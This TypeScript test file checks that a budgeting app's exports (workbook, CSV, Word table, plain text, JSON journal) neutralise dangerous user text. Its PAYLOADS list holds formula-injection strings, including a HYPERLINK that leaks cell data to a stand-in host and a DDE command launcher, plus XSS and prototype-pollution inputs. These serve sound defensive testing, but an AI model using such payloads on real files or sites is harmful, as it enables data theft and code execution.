import { applyCommand } from '@shared/domain/command/apply-command';
import { applyReviewedChanges } from '@shared/domain/command/record-changes';
import { changesBetween, EMPTY_WORKSPACE, type Workspace } from '@shared/domain/command/workspace';
import { budgetCsv } from '@shared/domain/export/budget-csv';
import type { BudgetDocument } from '@shared/domain/export/budget-document';
import { budgetHtmlTable, budgetPlainText } from '@shared/domain/export/budget-table';
import { readWorkbook } from '@renderer/workbook/read/read-workbook';
import { InputTally } from '@tests/faults/count';
import { exampleDocument, exported, gridOf, readBack } from '@tests/fixtures/export-sample';
import { afterAll, describe, expect, it } from 'vitest';

/** Text that some program, somewhere, takes for more than text. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("https://evil.invalid/?x="&A1;"Klicka")',
  "=cmd|'/C calc'!A0",
  '+46 70 123 45 67',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '&lt;b&gt; &amp; </td></tr></table>',
  '__proto__',
  'constructor.prototype.polluted',
] as const;

const ROW = 2;
const YEAR = '2025';

/** Where a user can put text, and how it gets there. */
const FIELDS = {
  'a row’s name': (document, text) => withRow(document, { label: text }),
  'a note': (document, text) => withRow(document, { notes: { label: text, [YEAR]: text } }),
  'a cell that was not understood': (document, text) =>
    withRow(document, { amounts: {}, rejected: { [YEAR]: text } }),
  'the project’s name': (document, text) => ({ ...document, project: { ...document.project, name: text } }),
} as const satisfies Record<string, (document: BudgetDocument, text: string) => BudgetDocument>;

function withRow(document: BudgetDocument, patch: object): BudgetDocument {
  const rows = document.rows.map((row, index) => (index === ROW ? { ...row, ...patch } : row));
  return { ...document, rows };
}

const unescapeHtml = (html: string): string =>
  html
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');

const oneLine = (text: string): string => text.replace(/\s+/g, ' ').trim();

/** Whether a text may be seen in an export: the tables show neither notes nor, the text ones, the project's name. */
function isShown(field: keyof typeof FIELDS, where: 'csv' | 'html' | 'text'): boolean {
  if (field === 'a note') return false;
  return field !== 'the project’s name' || where === 'html';
}

type Check = (document: BudgetDocument, payload: string, field: keyof typeof FIELDS) => Promise<() => void>;

const intoWorkbook: Check = async (document, payload) => {
  const bytes = await exported(document);
  const [own, grid] = [await readBack(bytes), await gridOf(bytes)];
  return () => {
    expect(own.stored).toEqual(document);
    const formulas = grid.sheets.flatMap(({ cells }) => cells.flatMap(({ formula }) => formula ?? []));
    expect(formulas.filter((formula) => formula.includes(payload.slice(1)))).toEqual([]);
  };
};

const intoCsv: Check = async (document, payload, field) => {
  const csv = budgetCsv(document, 'ore');
  const read = await readWorkbook('budget.csv', new TextEncoder().encode(csv));
  return () => {
    if (!read.ok) expect.fail(read.error.code);
    const texts = read.value.sheets.flatMap(({ cells }) =>
      cells.flatMap(({ value }) => ('text' in value ? [value.text] : [])),
    );
    // A spreadsheet computes what begins like a formula, so nothing may.
    const fields = csv.split(/\r\n|;/).map((one) => one.replace(/^\ufeff?"?/, ''));
    expect(fields.filter((one) => /^[=+@\t\r]|^-(?!\d+(,\d+)?$)/.test(one))).toEqual([]);
    const kept = texts.some((text) => [payload, `'${payload}`].some((one) => oneLine(one) === oneLine(text)));
    expect(kept).toBe(isShown(field, 'csv'));
  };
};

const intoWord: Check = (document, payload, field) => {
  const html = budgetHtmlTable(document, 'ore');
  return Promise.resolve(() => {
    const names = [...html.matchAll(/<\/?([a-z]+)/gi)].map(([, name]) => name);
    expect(names.filter((name) => !/^(table|caption|thead|tbody|tr|th|td)$/.test(name ?? ''))).toEqual([]);
    expect(html.match(/<table/g)).toHaveLength(1);
    const texts = html.split(/<[^>]*>/).map((text) => oneLine(unescapeHtml(text)));
    expect(texts.some((text) => text.endsWith(oneLine(payload)))).toBe(isShown(field, 'html'));
  });
};

const intoPlainText: Check = (document, payload, field) => {
  const text = budgetPlainText(document, 'ore');
  const usual = budgetPlainText(exampleDocument(), 'ore');
  return Promise.resolve(() => {
    const columns = (table: string) => table.split('\r\n').map((line) => line.split('\t').length);
    expect(columns(text)).toEqual(columns(usual));
    const cells = text.split(/[\t\r\n]+/);
    expect(cells.includes(oneLine(payload))).toBe(isShown(field, 'text'));
  });
};

/** As the journal, the backups and the exchange file keep it: the change as JSON, read back and carried out. */
const intoJournal: Check = (document) => {
  const { project, budget, rows } = document;
  const created = applyCommand(EMPTY_WORKSPACE, { kind: 'createProject', project, budget, rows });
  if (!created.ok) throw new Error(created.error.code);
  const written = JSON.stringify(changesBetween(EMPTY_WORKSPACE, created.value));
  const read = JSON.parse(written) as ReturnType<typeof changesBetween>;
  const restored = applyReviewedChanges(EMPTY_WORKSPACE, read);
  return Promise.resolve(() => {
    if (!restored.ok) expect.fail(restored.error.code);
    expect(restored.value).toEqual({
      ...EMPTY_WORKSPACE,
      projects: [project],
      budgets: [budget],
      budgetRows: rows,
    } satisfies Workspace);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
  });
};

const EXPORTS = {
  'the workbook': intoWorkbook,
  'the CSV': intoCsv,
  'the table for Word': intoWord,
  'the table as text': intoPlainText,
  'the journal': intoJournal,
} as const;

describe('B6: text that looks like a formula, a page or a program', () => {
  const tally = new InputTally('B6');
  const cases = Object.keys(EXPORTS).flatMap((way) =>
    Object.keys(FIELDS).flatMap((field) => PAYLOADS.map((payload) => ({ way, field, payload }))),
  ) as readonly {
    readonly way: keyof typeof EXPORTS;
    readonly field: keyof typeof FIELDS;
    readonly payload: (typeof PAYLOADS)[number];
  }[];

  it('makes 240 combinations', () => {
    expect(cases).toHaveLength(240);
  });

  it.each(cases)('$payload in $field stays what it is in $way', async ({ way, field, payload }) => {
    const document = FIELDS[field](exampleDocument(), payload);
    await tally.judge(
      () => EXPORTS[way](document, payload, field),
      (check) => {
        check();
      },
    );
  });

  afterAll(() => {
    tally.print();
  });
});
